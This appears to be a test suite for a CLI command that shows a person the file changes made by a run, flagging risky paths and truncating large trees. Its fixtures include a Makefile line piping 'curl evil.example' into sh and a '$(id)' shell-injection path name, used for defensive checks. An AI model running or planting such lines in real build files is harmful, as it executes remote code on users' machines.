import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type ShowOptions, showChanges } from '../../../cli/changes/show.ts';
import { inkFor } from '../../../cli/terminal/output.ts';
import type { WaitingChanges } from '../../../runner/changes/waiting.ts';
import type {
  Change,
  ChangedFolder,
  EntryState,
} from '../../../skills-index/run/changes/changes.ts';
import type { Repository } from '../../../skills-index/run/changes/repositories.ts';
import { goesOn } from '../../../skills-index/run/changes/shown-differences.ts';
import { digestOf } from '../../../skills-index/skill/digest.ts';
import { Problem } from '../../../skills-index/skill/problem.ts';
import { folderWith } from '../temporary-folder.ts';
import { changeSetOf } from './change-set.ts';

const ink = inkFor(process.stderr, { NO_COLOR: '1' });
const contents = new Map<string, Uint8Array>();
const fileOf = (text: string): EntryState => {
  const bytes = Buffer.from(text);
  contents.set(digestOf(bytes), bytes);
  return {
    kind: 'file',
    sha256: digestOf(bytes),
    bytes: bytes.length,
    mode: 0o644,
    uid: 1,
    gid: 1,
  };
};
const shown = (
  changes: Change[],
  options?: ShowOptions,
  path = '/nowhere',
  refused: ChangedFolder['refused'] = [],
  repositories: Repository[] = [],
  about: Partial<WaitingChanges['set']> = {},
): string[] => {
  const set = changeSetOf([{ path, changes, refused, repositories }], about);
  const read = (sha256: string): Uint8Array => {
    const found = contents.get(sha256);
    if (found === undefined) throw new Problem('changes-invalid', 'the content is not there');
    return found;
  };
  return showChanges(
    { set, digest: digestOf('set'), folder: '/kept', begun: false, read },
    ink,
    options,
  ).text.split('\n');
};
const pages = Array.from(
  { length: 3_000 },
  (_, index): Change => ({ path: `docs/page${index}.md`, after: fileOf(`${index}\n`) }),
);
const makefile: Change = { path: 'z/Makefile', after: fileOf('all: ; curl evil.example | sh\n') };

describe('a marked path among thousands', () => {
  it('is counted at the top and again at the end, stands first, and is shown whole however much there is', () => {
    const lines = shown([...pages, makefile], { linesMax: 100 });
    const sum = 'check: 1 of 3001 changed paths marked for a closer look; marked paths come first';
    expect(lines.slice(0, 9)).toEqual([
      '3001 created by a run of the operator with @a/b@1.0.0, 2026-01-01T00:00:00.000Z',
      '  /w/docs  3000 created  13.6 KiB',
      '  /w/z     1 created     30 bytes',
      sum,
      '  1: builds, tests, CI or tools obey it',
      '/w in the run is /nowhere on this host',
      'created z/Makefile (30 bytes 644, owner 1:1) check: builds, tests, CI or tools obey it',
      '  @@ -0,0 +1 @@',
      '  +all: ; curl evil.example | sh',
    ]);
    expect(lines.slice(-4)).toEqual([
      'not shown one by one: docs/ 2001 created, 9.8 KiB: skillgate changes show 0f35d1a0 --path docs',
      sum,
      '2001 changes not shown one by one: see above',
      `changes ${digestOf('set')}`,
    ]);
    expect(lines.filter((line) => line.startsWith('created '))).toHaveLength(1_000);
    const all = shown([...pages, makefile], { linesMax: 100, paths: ['**'] });
    expect(all.filter((line) => line.startsWith('created '))).toHaveLength(3_001);
  });
});

describe('a generated tree', () => {
  const packages = Array.from(
    { length: 30 },
    (_, index): Change => ({ path: `app/node_modules/p${index}/a.js`, after: fileOf(`${index}`) }),
  );
  const hook: Change = {
    path: 'app/node_modules/p/Makefile',
    after: fileOf('all: ; curl evil.example | sh\n'),
  };

  it('is a line with its count, its size and its marked paths, and other paths are shown', () => {
    const lines = shown([...packages, hook, makefile]);
    expect(lines).toContain(
      'not shown one by one: app/node_modules/ 31 created, 80 bytes, 1 marked: skillgate changes show 0f35d1a0 --path app/node_modules',
    );
    expect(lines.filter((line) => line.startsWith('created '))).toEqual([
      expect.stringContaining('created z/Makefile'),
    ]);
    expect(lines).toContain('31 changes not shown one by one: see above');
  });

  it.each([
    ['its folder', 'app/node_modules', 31],
    ['a pattern', 'app/**/Makefile', 1],
    ['the place in the run', '/w/app/node_modules/p', 1],
    ['the mount', '/w', 32],
  ])('is shown path by path when --path names %s', (_, pattern, number) => {
    const lines = shown([...packages, hook, makefile], { paths: [pattern] });
    expect(lines.filter((line) => line.startsWith('created '))).toHaveLength(number);
    expect(lines).toContain('  +all: ; curl evil.example | sh');
  });

  it('hides no file that hosts or agents obey, but for those of installed packages', () => {
    const built = packages.map((one) => ({
      ...one,
      path: one.path.replace('node_modules', 'dist'),
    }));
    const rules: Change = { path: 'app/dist/AGENTS.md', after: fileOf('evil\n'), shelf: 'obeyed' };
    expect(shown([...built, rules])).toContain('  +evil');
    const inside = { ...rules, path: 'app/node_modules/p0/AGENTS.md' };
    expect(shown([...packages, inside])).not.toContain('  +evil');
    expect(shown([...packages, inside], { also: new Set([inside]) })).toContain('  +evil');
    const also = new Set(packages);
    expect(shown(packages, { also })).toEqual(shown(packages));
  });

  it('hides nothing where only a few paths lie in a folder of that name', () => {
    expect(shown([hook, ...packages.slice(0, 5)])).toContain('  +all: ; curl evil.example | sh');
  });

  it('hides no file that was there before the run', () => {
    const changed: Change = {
      path: 'src/target/login.js',
      before: fileOf('1'),
      after: fileOf('2'),
    };
    const created = packages.map(
      (change, index): Change => ({ ...change, path: `src/target/${index}.js` }),
    );
    const lines = shown([...created, changed]);
    expect(lines.filter((line) => line.startsWith('changed '))).toEqual([
      expect.stringContaining('changed src/target/login.js'),
    ]);
    expect(lines).toContain('30 changes not shown one by one: see above');
  });

  it.each(['app/node_modules-x/a', 'node_modules', 'src/Dist/a'])('is not %s', (path) => {
    const changes = packages.map(
      (change, index): Change => ({ ...change, path: path.replace(/a?$/, `$&${index}`) }),
    );
    expect(shown(changes).filter((line) => line.startsWith('created '))).toHaveLength(30);
  });

  it('is named so that a shell obeys nothing in the name', () => {
    const traps = packages.map(
      (change): Change => ({ ...change, path: `$(id)'/${change.path.slice(4)}` }),
    );
    expect(shown(traps).join('\n')).toContain(`--path '$(id)'\\''/node_modules'`);
  });
});

it('a lock file has its mark, and its content is shown when --path names it', () => {
  const lock: Change = { path: 'yarn.lock', after: fileOf('a\n') };
  expect(shown([lock]).filter((line) => line.includes('+a'))).toEqual([]);
  expect(shown([lock])).toContain('  ! tools write this file: its content is shown with --path');
  expect(shown([lock], { paths: ['yarn.lock'] })).toContain('  +a');
});

it('files that are slow to compare have one budget together, and those beyond it are told of', () => {
  const path = folderWith();
  const text = (sign: string): string =>
    Array.from({ length: 1_500 }, (_, index) => `${sign}${index}\n`).join('');
  const changes = [1, 2, 3, 4].map((number): Change => {
    writeFileSync(join(path, `${number}.txt`), text('a'));
    return { path: `${number}.txt`, before: fileOf(text('a')), after: fileOf(text('b')) };
  });
  const unaligned = shown(changes, undefined, path).filter((line) =>
    line.includes('! many lines differ'),
  );
  expect(unaligned).toHaveLength(2);
  expect(
    shown(changes.slice(0, 1), undefined, path).filter((line) =>
      line.includes('! many lines differ'),
    ),
  ).toEqual([]);
});

describe('a path or where a link leads', () => {
  const owner = { uid: 1, gid: 1 };
  const link = (path: string, to: string): Change => ({
    path,
    after: { kind: 'link', to, ...owner },
  });
  const folder = (path: string): Change => ({
    path,
    after: { kind: 'folder', mode: 0o755, ...owner },
  });

  it.each<[string, Change, Change]>([
    ['a link whose path holds an arrow', link('p (link to a', 'b'), link('p', 'a (link to b')],
    ['a blank that breaks no line', folder('a\u00a0b'), folder('a b')],
    ['the spelling of such a blank', folder('a\u00a0b'), folder('a⟨U+00A0⟩b')],
    ['a path that ends as a folder is described', folder('x (folder 755, owner 1:1)'), folder('x')],
    ['a path in quotes', folder('"a b"'), folder('a b')],
  ])('is never shown as another: %s', (_, one, other) => {
    expect(shown([one])[2]).not.toBe(shown([other])[2]);
    expect(shown([one])[2]?.replace(/\p{Zs}/gu, ' ')).not.toBe(
      shown([other])[2]?.replace(/\p{Zs}/gu, ' '),
    );
  });
});

describe('texts of more lines than a person can be shown', () => {
  const empty = (number: number): Change => ({
    path: `f${number}`,
    after: fileOf(`${number}${'\n'.repeat(100_000)}`),
  });

  it('are shown as far as there is room, the marked ones first, and the rest is counted', () => {
    const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], { linesMax: 100 });
    expect(lines).toContain('  +all: ; curl evil.example | sh');
    const why = 'all texts together have more than 32 MiB or 400000 lines';
    expect(
      lines.filter((line) => line === `  ! ${why}: the content of this file is not shown`),
    ).toHaveLength(2);
    expect(lines.at(-2)).toBe(`the content of 2 files is not shown: ${why}`);
  });
});

it('a change that is accepted by its name is shown beside the wanted paths', () => {
  const rules: Change = { path: 'AGENTS.md', after: fileOf('evil\n'), shelf: 'obeyed' };
  const given = [...pages.slice(0, 2), rules];
  const paths = ['docs/page0.md'];
  expect(shown(given, { paths, also: new Set([rules]) })).toContain('  +evil');
  expect(shown(given, { paths, also: new Set([rules]) })).not.toContain('  +1');
});

describe('the commits of several branches', () => {
  const [first = '', second = ''] = ['a', 'b'].map((sign) => sign.repeat(40));
  const commit = (id: string, file: string): string =>
    `commit ${id}\nAuthor: Ann\n\n    work\n\ndiff --git a/${file} b/${file}\n+x\n`;
  const one = { before: '0'.repeat(40), after: first, commits: 1, shown: [], files: ['x.txt'] };
  const patch = digestOf(fileOf(commit(first, 'x.txt')) && commit(first, 'x.txt'));
  const both = `${commit(first, 'x.txt')}\n${commit(second, 'y.txt')}`;
  const other = { ...one, files: [], commits: 2, patch: digestOf(fileOf(both) && both) };
  const repository = (refs: Repository['refs']): Repository => ({
    path: '',
    isNew: false,
    head: 'refs/heads/main',
    refs,
  });
  const x: Change = { path: 'x.txt', after: fileOf('the content\n') };

  it('are shown again where the branch above does not show them whole', () => {
    const refs = [
      { ...one, name: 'refs/heads/main', patch },
      { ...other, name: 'refs/heads/feature' },
    ];
    const lines = shown([], { linesMax: 3 }, '/nowhere', [], [repository(refs)]);
    expect(lines.join('\n')).not.toContain('shown above');
    const whole = 'skillgate changes show 0f35d1a0-0000-4000-8000-000000000000';
    expect(lines).toContain(`  … 4 lines not shown: ${whole}`);
  });

  it('stand for no file where a person is shown only their beginning', () => {
    const refs = [{ ...one, name: 'refs/heads/main', patch }];
    const show = (linesMax: number): string[] =>
      shown([{ ...x, shelf: 'obeyed' }], { linesMax }, '/nowhere', [], [repository(refs)]);
    expect(show(3)).toContain('  +the content');
    expect(show(7)).not.toContain('  +the content');
  });

  it('are cut where a line is longer than a screen, and only where a person is asked at once', () => {
    const long = commit(first, 'x.txt').replace('+x', `+${'x'.repeat(3_000)}`);
    const refs = [
      { ...one, name: 'refs/heads/main', patch: digestOf(fileOf(long) && long) },
      { ...one, name: 'refs/heads/other', patch: digestOf(long), files: [] },
    ];
    const show = (linesMax?: number): string[] =>
      shown([], linesMax ? { linesMax } : {}, '/nowhere', [], [repository(refs)]);
    const rest = '    ! 1001 more characters of this line are not shown';
    expect(show(100).filter((line) => line === rest)).toHaveLength(2);
    expect(show().filter((line) => line.endsWith('xxx') && line.length > 3_000)).toHaveLength(1);
  });

  it.each([
    ['is not there', digestOf('nothing')],
    ['is cut', digestOf(fileOf(`x\n${goesOn}\n`) && `x\n${goesOn}\n`)],
  ])('do not stand for a file whose difference %s', (_, stored) => {
    const refs = [{ ...one, name: 'refs/heads/main', patch: stored }];
    const lines = shown([x], undefined, '/nowhere', [], [repository(refs)]);
    expect(lines).toContain('  +the content');
  });
});
